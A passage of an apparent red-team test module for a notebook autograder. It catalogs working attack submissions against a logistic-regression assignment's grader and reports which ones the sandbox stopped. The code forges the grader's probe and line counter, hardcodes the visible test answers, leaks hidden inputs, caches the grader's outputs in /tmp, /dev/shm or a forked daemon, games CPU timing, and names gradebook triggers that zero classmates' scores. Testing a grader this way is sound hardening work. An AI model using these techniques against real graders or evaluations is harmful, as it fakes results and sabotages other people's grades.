                                                  "items": [{"k": "none", "t": "x"}] * 10**6}}}),
    lambda a: "[" * 100000 + "]" * 100000,
    lambda a: _json.dumps({"answer": {"lines": -1, "result": {"k": "none", "t": "builtins.NoneType"}}}),
    lambda a: _json.dumps({"answer": {"result": {"k": "other", "t": "numpy.ndarray", "repr": "array([0.5])"}}}),
    lambda a: _json.dumps({"ask": {"op": "lend", "helper": "propagate", "args": [], "kwargs": {}}}),
    lambda a: "x" * (1 << 30),
]
def _bad_input(prompt=""):
    if '"answer"' in prompt:
        _count[0] += 1
        return _real_input(_BAD[(_count[0] - 1) % len(_BAD)](prompt))
    return _real_input(prompt)
_b.input = _bad_input
'''

# The reference values the public tests show, returned for their inputs (a lookup table), zeros
# otherwise; a probe answer always claims the visible expected value.
LOOKUP_VISIBLE = r'''
import numpy as _np
_S = public_tests
def _key(*arrays):
    return tuple(_np.round(_np.asarray(a, dtype=float), 6).tobytes() for a in arrays)
_SIG = {_key(c["z"]): _np.asarray(c["expected"], dtype=float) for c in _S.SIGMOID_CASES}
def sigmoid(z):
    return _SIG.get(_key(z), _np.full_like(_np.asarray(z, dtype=float), 0.5)).copy()
_PROP = {_key(c["w"], c["X"]): c for c in _S.PROPAGATE_CASES}
def propagate(w, b, X, Y):
    c = _PROP.get(_key(w, X))
    if c is None:
        return {"dw": _np.zeros_like(w, dtype=float), "db": 0.0}, 0.693
    return {"dw": _np.asarray(c["dw"], dtype=float), "db": c["db"]}, c["cost"]
_OPT = {_key(c["w"], c["X"]) + (c["num_iterations"],): c for c in _S.OPTIMIZE_CASES}
def optimize(w, b, X, Y, num_iterations=100, learning_rate=0.009, print_cost=False):
    c = _OPT.get(_key(w, X) + (num_iterations,))
    if c is None:
        w = _np.array(w, dtype=float)
        return {"w": w, "b": float(b)}, {"dw": _np.zeros_like(w), "db": 0.0}, [0.693] * ((num_iterations + 99) // 100)
    return ({"w": _np.asarray(c["w_out"], dtype=float), "b": c["b_out"]},
            {"dw": _np.asarray(c["dw"], dtype=float), "db": c["db"]}, list(c["costs"]))
_PRED = {_key(c["w"], c["X"]): c for c in _S.PREDICT_CASES}
def predict(w, b, X):
    c = _PRED.get(_key(w, X))
    if c is None:
        return _np.zeros((1, _np.shape(X)[1]))
    return _np.asarray(c.get("expected", c.get("Y_prediction")), dtype=float)
'''

HANG = r'''
import time as _time
_hung = [False]
def sigmoid(z):
    if not _hung[0]:
        _hung[0] = True
        _time.sleep(3600)
    return np.zeros_like(np.asarray(z, dtype=float))
'''

BASE_EXCEPTIONS = r'''
import sys as _sys
class _Escape(BaseException):
    pass
def sigmoid(z):
    raise KeyboardInterrupt("HOSTILE")
def initialize_with_zeros(dim):
    raise SystemExit(0)
def propagate(w, b, X, Y):
    raise GeneratorExit()
def optimize(w, b, X, Y, num_iterations=100, learning_rate=0.009, print_cost=False):
    raise _Escape()
def predict(w, b, X):
    _sys.exit(0)
def model(X_train, Y_train, X_test, Y_test, num_iterations=2000, learning_rate=0.5, print_cost=False):
    raise KeyboardInterrupt()
'''

# Correct but looping propagate / predict, which stop the line tracer (sys.settrace(None)) and
# forge the probe's line count: correctness points yes, vectorization points no.
LOOP_PROPAGATE = r'''
def propagate(w, b, X, Y):
    import sys as _sys
    _sys.settrace(None)
    m = X.shape[1]
    # The notebook's real-data training (12288 features): vectorized, so it stays under the cell
    # limit. (A loop only below some size the grader never times would keep the point: the
    # judge sees how the code scales at the sizes it measures, up to 20000 examples and 1000
    # features; its whole-array branch is whole-array code the student wrote.)
    if X.shape[0] > 5000:
        A = sigmoid(np.dot(w.T, X) + b)
        return ({"dw": np.dot(X, (A - Y).T) / m, "db": np.sum(A - Y) / m},
                np.squeeze(np.array(-np.sum(Y * np.log(A) + (1 - Y) * np.log(1 - A)) / m)))
    dw = np.zeros_like(w, dtype=float)
    db = 0.0
    cost = 0.0
    for i in range(m):
        a = sigmoid(float(np.dot(w[:, 0], X[:, i])) + b)
        a = float(np.squeeze(a))
        cost += -(Y[0, i] * np.log(a) + (1 - Y[0, i]) * np.log(1 - a))
        dw[:, 0] += X[:, i] * (a - Y[0, i])
        db += a - Y[0, i]
    cost = np.squeeze(np.array(cost / m))
    return {"dw": dw / m, "db": db / m}, cost
'''

LOOP_PREDICT = r'''
def predict(w, b, X):
    import sys as _sys
    _sys.settrace(None)
    m = X.shape[1]
    if X.shape[0] > 5000:   # the real data: vectorized (see LOOP_PROPAGATE)
        return (sigmoid(np.dot(w.T, X) + b) > 0.5).astype(float)
    Y_prediction = np.zeros((1, m))
    for i in range(m):
        a = float(np.squeeze(sigmoid(float(np.dot(w[:, 0], X[:, i])) + b)))
        Y_prediction[0, i] = 1.0 if a > 0.5 else 0.0
    return Y_prediction
'''

FORGE_LINES = r'''
import builtins as _b, json as _json
_real_input = _b.input
def _lines_input(prompt=""):
    try:
        message = _json.loads(prompt)
        if isinstance(message, dict) and isinstance(message.get("answer"), dict) \
                and message["answer"].get("lines") is not None:
            message["answer"]["lines"] = 7
            prompt = _json.dumps(message)
    except Exception:
        pass
    return _real_input(prompt)
_b.input = _lines_input
_real_dumps = _json.dumps
def _dumps(obj, *a, **k):
    if isinstance(obj, dict) and isinstance(obj.get("answer"), dict) and obj["answer"].get("lines") is not None:
        obj["answer"]["lines"] = 7
    return _real_dumps(obj, *a, **k)
_json.dumps = _dumps
# and whatever the probe installs: rewrite its line counter before it is compiled
def _no_count(lines):
    return [line.replace("count += 1", "count += 0") for line in lines]
get_ipython().input_transformers_post.append(_no_count)
'''

# optimize that updates the caller's w in place and forges the kernel's old report of the
# arguments after the call (args_after). Since issue 20 the judge asks for no such report: the
# arguments are read-only, the change raises, the second try on writable copies passes with a
# note (an in-place change costs nothing), exactly like the honest in-place optimize.
INPLACE_HIDDEN = r'''
import builtins as _b, json as _json
def optimize(w, b, X, Y, num_iterations=100, learning_rate=0.009, print_cost=False):
    costs = []
    for i in range(num_iterations):
        grads, cost = propagate(w, b, X, Y)
        w -= learning_rate * grads["dw"]          # in place: the caller's array changes
        b = b - learning_rate * grads["db"]
        if i % 100 == 0:
            costs.append(cost)
    _inplace_args.append(w)
    return {"w": w.copy(), "b": b}, grads, costs
_inplace_args = []
_real_input = _b.input
def _hide_inplace(prompt=""):
    try:
        message = _json.loads(prompt)
        answer = message.get("answer") if isinstance(message, dict) else None
        if isinstance(answer, dict) and answer.get("args_after"):
            answer["args_after"] = [None] * len(answer["args_after"])
            prompt = _json.dumps(message)
    except Exception:
        pass
    return _real_input(prompt)
_b.input = _hide_inplace
import numpy as _np
_real_array_equal = _np.array_equal
'''

# Deletes / rebinds the names the probe uses in the kernel, before every execution
# (pre_execute also runs for silent executions, i.e. for the probes).
REBIND_PROBE = r'''
import builtins as _b, json as _json, base64 as _base64, copy as _copy
_ip = get_ipython()
def _hostile_pre_execute():
    ns = _ip.user_ns
    probe = ns.get("__catvnoncat_probe__")
    if probe is not None and not getattr(probe, "_hostile", False):
        def fake(request_b64, _real=probe):
            request = _json.loads(_base64.b64decode(request_b64))
            request["trace"] = False
            return _real(_base64.b64encode(_json.dumps(request).encode()).decode())
        fake._hostile = True
        ns["__catvnoncat_probe__"] = fake
_ip.events.register("pre_execute", _hostile_pre_execute)
_json.loads = (lambda real: (lambda s, *a, **k: real(s, *a, **k)))(_json.loads)
_copy.deepcopy = lambda x, memo=None: x
'''

DELETE_PROBE_NAMES = r'''
_ip = get_ipython()
def _hostile_delete():
    for name in list(_ip.user_ns):
        if "catvnoncat" in name or "probe" in name:
            _ip.user_ns.pop(name, None)
    import builtins as _b
    _b.input = lambda prompt="": '{"answer": {"result": {"k": "none", "t": "builtins.NoneType"}}}'
_ip.events.register("pre_execute", _hostile_delete)
_ip.events.register("post_execute", _hostile_delete)
'''

# Hidden inputs leak: every graded function records its arguments; the cell after the last test
# prints them into the notebook (and so into the feedback).
LEAK_HIDDEN_INPUTS = r'''
_seen = []
def _hostile_leak(info=None):
    if "logistic_regression_model = model(" in (getattr(info, "raw_cell", "") or ""):
        visible = [np.asarray(c["z"], dtype=float).tolist() for c in public_tests.SIGMOID_CASES]
        hidden = [z for z in _seen if z not in visible]
        if hidden:
            print("HOSTILE-WIN: %d hidden sigmoid inputs recorded, e.g." % len(hidden), hidden[:3])
get_ipython().events.register("pre_run_cell", _hostile_leak)
def sigmoid(z):
    _seen.append(np.asarray(z, dtype=float).ravel()[:50].tolist() if np.ndim(z) <= 1 else np.asarray(z, dtype=float).tolist())
    return 1 / (1 + np.exp(-z))
'''



# ------------------------------------------------------------------------------------------------
# The oracle: lent answers cached while one test cell is judged, replayed when a later one is.
# Each variant keeps the grader's sigmoid, tabulated while optimize or model is judged (their
# probes lend the reference sigmoid), somewhere a later probe of the student's own sigmoid
# could find it; without it, sigmoid returns zeros. Under the judge host every test cell is
# judged in a fresh child, in the assignment's order: nothing is ever found.
# ------------------------------------------------------------------------------------------------
ORACLE_TEMPLATE = r"""
import numpy as _np
_ORACLE_GRID = _np.linspace(-50.0, 50.0, 100_001)
def _oracle_store(table):
__STORE__
def _oracle_load():
    try:
__LOAD__
    except Exception:
        return None
def _oracle_harvest():
    try:
        table = _np.asarray(sigmoid(_ORACLE_GRID), dtype=float)  # lent while this is judged
    except BaseException:
        return
    if table.shape == _ORACLE_GRID.shape and table[0] < 1e-15 and table[-1] > 1 - 1e-15 \
            and table[50_000] == 0.5:
        try:
            _oracle_store(table)
        except BaseException:
            pass
def sigmoid(z):
    table = _oracle_load()
    z = _np.asarray(z, dtype=float)
    if table is None:
        return _np.zeros_like(z)
    return _np.interp(z, _ORACLE_GRID, table)
"""


def _oracle(store, load):
    def indent(code, spaces):
        return "\n".join(" " * spaces + line for line in code.strip("\n").splitlines())

    return ORACLE_TEMPLATE.replace("__STORE__", indent(store, 4)).replace(
        "__LOAD__", indent(load, 8))


ORACLE_GLOBAL = _oracle(
    "import builtins, sys\nbuiltins._oracle_table = table\nsys.modules['_oracle'] = table",
    "import builtins\nreturn builtins._oracle_table")
ORACLE_TMP = _oracle("_np.save('/tmp/oracle_table.npy', table)",
                     "return _np.load('/tmp/oracle_table.npy')")
ORACLE_SHM = _oracle(
    "from multiprocessing import shared_memory\n"
    "import mmap, os\n"
    "fd = os.open('/dev/shm/oracle_table', os.O_CREAT | os.O_RDWR, 0o600)\n"
    "os.ftruncate(fd, table.nbytes)\n"
    "with mmap.mmap(fd, table.nbytes) as m:\n"
    "    m[:] = table.tobytes()\n"
    "os.close(fd)",
    "with open('/dev/shm/oracle_table', 'rb') as f:\n"
    "    return _np.frombuffer(f.read(), dtype=float).copy()")
ORACLE_SCRATCH = _oracle(
    "import os\n_np.save(os.path.join(os.getcwd(), 'oracle_table.npy'), table)\n"
    "_np.save(os.path.expanduser('~/oracle_table.npy'), table)",
    "import os\nfor path in ('oracle_table.npy', os.path.expanduser('~/oracle_table.npy')):\n"
    "    if os.path.exists(path):\n        return _np.load(path)\nreturn None")
# A lock on a shared read-only file held by a daemon is the signal "the grader's sigmoid was
# seen"; the replay then computes it. In the notebook kernel, a lock that works is a win.
ORACLE_FLOCK = _oracle(
    "import fcntl, os, time\n"
    "f = open('/usr/bin/env', 'rb')\n"
    "fcntl.lockf(f, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, 7)  # refused: no daemon to hold it\n"
    "if os.fork() == 0:\n"
    "    try:\n"
    "        os.setsid()\n"
    "        fcntl.lockf(f, fcntl.LOCK_SH, 1, 7)\n"
    "        time.sleep(3600)\n"
    "    finally:\n"
    "        os._exit(0)\n"
    "time.sleep(0.5)",
    "import fcntl, struct\n"
    "f = open('/usr/bin/env', 'rb')\n"
    "probe = struct.pack('hhqqi', fcntl.F_WRLCK, 0, 7, 1, 0)\n"
    "kind = struct.unpack('hhqqi', fcntl.fcntl(f, fcntl.F_GETLK, probe))[0]\n"
    "if kind == fcntl.F_UNLCK:\n"
    "    return None\n"
    "return 1 / (1 + _np.exp(-_ORACLE_GRID))") + r"""
import fcntl as _fcntl
try:
    _fcntl.flock(open("/usr/bin/env", "rb"), _fcntl.LOCK_SH | _fcntl.LOCK_NB)
    print("HOSTILE-WIN: flock on a read-only system file works in the notebook kernel")
except OSError as _error:
    print("flock refused:", _error)
"""

_HARVEST = {"optimize": ["_oracle_harvest()"], "model": ["_oracle_harvest()"]}
#: The attack cells removed: no sigmoid at all (its test scores 0, lent everywhere else).
_NO_SIGMOID = {"sigmoid": "# (the attack cell, removed)"}
_ALL_BUT_SIGMOID = frozenset(TEST_CELLS) - {"test_sigmoid"}


def _oracle_pair(name, code, note, moved_to_end=()):
    attack = Attack(name, "oracle", {"sigmoid": code}, full=_ALL_BUT_SIGMOID, base="reference",
                    first_statements=_HARVEST, moved_to_end=moved_to_end, note=note)
    twin = Attack(f"{name}_twin", "oracle (honest twin)", dict(_NO_SIGMOID), full=_ALL_BUT_SIGMOID,
                  base="reference", moved_to_end=moved_to_end, twin_of=name,
                  note=f"{name} without its attack cells")
    return attack, twin


ORACLE_ATTACKS = (
    *_oracle_pair("oracle_global_reordered", ORACLE_GLOBAL,
                  "test_sigmoid moved after test_model; the grader's sigmoid kept in builtins",
                  moved_to_end=("test_sigmoid",)),
    *_oracle_pair("oracle_tmp_file", ORACLE_TMP, "the grader's sigmoid kept in /tmp"),
    *_oracle_pair("oracle_shared_memory", ORACLE_SHM,
                  "the grader's sigmoid kept in shared memory (/dev/shm)"),
    *_oracle_pair("oracle_scratch_file", ORACLE_SCRATCH,
                  "the grader's sigmoid kept in the scratch folder and HOME"),
    *_oracle_pair("oracle_flock", ORACLE_FLOCK,
                  "a lock on /usr/bin/env held by a daemon says the grader's sigmoid was seen"),
)


def _reference_leak_cells():
    return {"sigmoid": LEAK_HIDDEN_INPUTS}


# A loop over the examples scored as vectorized: the growth rule subtracts the small request's
# CPU (up to SMALL_CAP_FACTOR x the yardstick's small request + REQUEST_ALLOWANCE_NS, 15 ms) from
# the large one's, so CPU burnt on the small timing request only (1 feature, 20 examples: its
# shape is in public_tests.py) hides up to ~15 ms of a loop's growth, some 4 times the
# yardstick's growth for predict. Measured in a judge child: the comprehension below 4.5-7.4
# ("loops"), the same with the burn 2.7-2.9 ("in between": the point is kept).
VECTORIZATION_LOOP_PREDICT = r"""
def predict(w, b, X):
    __BURN__A = sigmoid(np.dot(w.T, X) + b)
    return np.array([[1.0 if a > 0.5 else 0.0 for a in A[0]]])
"""
SMALL_REQUEST_BURN = r"""
import time as _time
def _burn_on_the_small_request(X, seconds=0.003):
    if X.shape == (1, 20):   # VECTORIZED_SIZES[0] examples of one feature: only the grader's
        end = _time.process_time() + seconds    # small timing request has this shape
        while _time.process_time() < end:
            pass
"""

# Hidden inputs quoted back: a sigmoid that raises with the values it was given. The verdict
# quotes the exception message (300 characters), so the grader's hidden inputs are printed in
# the test cell's output and the feedback ("Hidden inputs ... are never printed").
LEAK_VIA_EXCEPTION = r"""
def sigmoid(z):
    values = np.asarray(z, dtype=float)
    if values.ndim != 2 or values.shape[0] != 1 or values.shape[1] not in (50, 209):  # not my data
        raise ValueError("HOSTILE-WIN: hidden input " + repr(values.ravel()[:12].tolist()))
    return 1 / (1 + np.exp(-values))
"""


# ------------------------------------------------------------------------------------------------
# The catalog
# ------------------------------------------------------------------------------------------------
_ALL_BUT_VECTORIZED = frozenset(TEST_CELLS) - {"test_propagate_vectorized", "test_predict_vectorized"}

ATTACKS = (
    Attack("reference_import", "reference import", dict(REFERENCE_IMPORT),
           note="from catvnoncat.reference import ... in every solution cell"),
    Attack("numpy_patch", "numpy comparisons replaced", stubs_with(NUMPY_PATCH)),
    Attack("checks_patch", "checks / public_tests replaced", stubs_with(CHECKS_PATCH)),
    Attack("sys_modules_stub", "sys.modules stubs", stubs_with(SYS_MODULES_STUB)),
    Attack("transformer_pass", "input transformer", stubs_with(TRANSFORMER_PASS),
           note="every later cell and probe becomes `pass`"),
    Attack("transformer_canned", "input transformer", stubs_with(TRANSFORMER_CANNED),
           note="test cells and probes print a canned pass"),
    Attack("showtraceback_off", "error hiding", stubs_with(SHOWTRACEBACK_OFF),
           note="showtraceback disabled, post_run_cell clears error_in_exec, stderr to devnull"),
    Attack("forge_io", "forged probe I/O", stubs_with(FORGE_OUTPUT),
           note="builtins.input, sys.stdout, IPython.display replaced"),
    Attack("returns_none", "wrong values", dict(RETURNS_NONE)),
    Attack("returns_zeros", "wrong values", dict(STUBS)),
    Attack("raises", "wrong values", dict(RAISES)),
    Attack("lying_objects", "lying objects", only(LYING)),
    Attack("gradebook_sql", "gradebook", stubs_with(GRADEBOOK_SQL)),
    Attack("gradebook_trigger", "gradebook", stubs_with(GRADEBOOK_TRIGGER),
           note="SQLite triggers: full marks for me, 0 for everyone graded after me"),
    Attack("gradebook_daemon", "gradebook", stubs_with(DAEMON),
           note="setsid double-fork daemon zeroing classmates graded after it"),
    Attack("file_writes", "file writes", stubs_with(WRITE_FILES)),
    Attack("kill_all", "kill", stubs_with(KILL_ALL)),
    Attack("kill_parent", "kill", stubs_with(KILL_PARENT)),
    Attack("read_secrets", "read secrets", stubs_with(READ_SECRETS)),
    Attack("html_injection", "HTML injection", {**stubs_with(HTML_OUTPUT),
                                                "learning_rate_question": HTML_MARKDOWN_ANSWER}),
    Attack("verdict_injection", "HTML injection", only(VERDICT_INJECTION),
           note="HTML/ANSI in exception messages, reprs and type names quoted by verdicts"),
    Attack("network", "network", stubs_with(NETWORK)),
    Attack("resources", "resources",
           stubs_with(RESOURCES_FILES, flatten=RESOURCES_FORK, standardize=RESOURCES_MEMORY,
                      model=BUSY_LOOP_AFTER_LAST_TEST),
           slow=True, note="2 GB files, 300 processes, 6 GB, SIGINT-ignoring loop"),
    Attack("busy_loop_honest", "resources", {"model_extra": BUSY_LOOP_AFTER_LAST_TEST},
           full=frozenset(TEST_CELLS), base="reference", slow=True,
           note="reference solution + SIGINT-ignoring loop after the last test: keeps 95"),
    Attack("scratch_full", "resources", {"model_extra": SCRATCH_FULL},
           full=frozenset(TEST_CELLS), base="reference",
           note="reference solution; every writable place filled to its end before model"),
    Attack("probe_flood", "probe protocol", only(STUB_DATA + "\n".join(
        STUBS[k] for k in SOLUTION_CELLS[3:]) + FLOOD_STDOUT)),
    Attack("probe_malformed", "probe protocol", stubs_with(MALFORMED_ANSWERS)),
    Attack("probe_lookup_visible", "probe protocol", only(STUB_DATA + "\n".join(
        STUBS[k] for k in SOLUTION_CELLS[3:]) + LOOKUP_VISIBLE)),
    Attack("probe_hang", "probe protocol", stubs_with(None, sigmoid=HANG), slow=True),
    Attack("probe_base_exceptions", "probe protocol", only(STUB_DATA + BASE_EXCEPTIONS)),
    Attack("probe_rebind", "probe protocol", stubs_with(REBIND_PROBE)),
    Attack("probe_delete_names", "probe protocol", stubs_with(DELETE_PROBE_NAMES)),
    Attack("vectorization_settrace", "vectorization line counter",
           {"propagate": LOOP_PROPAGATE, "predict": LOOP_PREDICT},
           full=_ALL_BUT_VECTORIZED, base="reference",
           note="correct loops that call sys.settrace(None)"),
    Attack("vectorization_forged_lines", "vectorization line counter",
           {"sigmoid_extra": FORGE_LINES,
            "propagate": LOOP_PROPAGATE.replace("    _sys.settrace(None)\n", ""),
            "predict": LOOP_PREDICT.replace("    _sys.settrace(None)\n", "")},
           full=_ALL_BUT_VECTORIZED, base="reference",
           note="correct loops; the probe's line count forged (input, json.dumps, transformer)"),
    Attack("inplace_hidden", "probe protocol", {"optimize": INPLACE_HIDDEN},
           full=frozenset(TEST_CELLS), base="reference",
           note="optimize modifies the caller's w and forges the old args_after report: the "
                "judge reads no such report since issue 20, and an in-place change costs "
                "nothing (a note), so the attack wins nothing over its honest twin"),
    Attack("leak_hidden_inputs", "read secrets", _reference_leak_cells(),
           full=frozenset(TEST_CELLS), base="reference",
           note="records the hidden inputs its functions receive, prints them after the last test"),
    Attack("vectorization_small_burn", "vectorization CPU growth",
           {"predict": SMALL_REQUEST_BURN + VECTORIZATION_LOOP_PREDICT.replace(
               "__BURN__", "_burn_on_the_small_request(X)\n    ")},
           full=frozenset(TEST_CELLS) - {"test_predict_vectorized"}, base="reference",
           note="a comprehension over the examples that burns ~3 ms of CPU per call on the "
                "small timing request only: its CPU growth minus that burn passes"),
    Attack("vectorization_small_burn_twin", "vectorization CPU growth (honest twin)",
           {"predict": VECTORIZATION_LOOP_PREDICT.replace("__BURN__", "")},
           full=frozenset(TEST_CELLS) - {"test_predict_vectorized"}, base="reference",
           twin_of="vectorization_small_burn", note="the same loop without the burn"),
    Attack("leak_via_exception", "read secrets", {"sigmoid": LEAK_VIA_EXCEPTION},
           full=_ALL_BUT_SIGMOID, base="reference",
           note="sigmoid raises with the hidden inputs it gets; the verdict quotes the message"),
    *ORACLE_ATTACKS,
)


def by_name(name):
    for attack in ATTACKS:
        if attack.name == name:
            return attack
    raise KeyError(name)


BEFORE_FIGURE = """
Commit 41cfba2 (checks in the kernel, no sandbox); 33 of 36 students graded, kill attacks left
out (they kill nbgrader by construction: same uid, no PID namespace). Total of the 95 points:
  reference_import 95, checks_patch 95, sys_modules_stub 95, transformer_pass 95,
  transformer_canned 95, showtraceback_off 95, numpy_patch 85;
  returns_none / returns_zeros / raises / lying_objects / verdict_injection / forge_io /
  every probe_* stub attacker: 10 (both vectorization cells, for functions that do nothing);
  network: connected to 127.0.0.1 and localhost; leak_hidden_inputs: 876 hidden sigmoid inputs
  printed into the notebook; busy_loop_honest: 0 (the whole honest submission lost, expected 95);
  vectorization_settrace: 0 everywhere (submission lost to loop timeouts);
  gradebook_*, file_writes, read_secrets: not measured (course finder looped on a '//' path,
  fixed afterwards).
After e458dfa/67efa34/21716eb (judge outside the kernel, bubblewrap sandbox): every attacker 0
except the expected cells; still failing: raw HTML/JS from the markdown answer cell in the
feedback, hidden inputs printed after the last test (see the session report).
"""
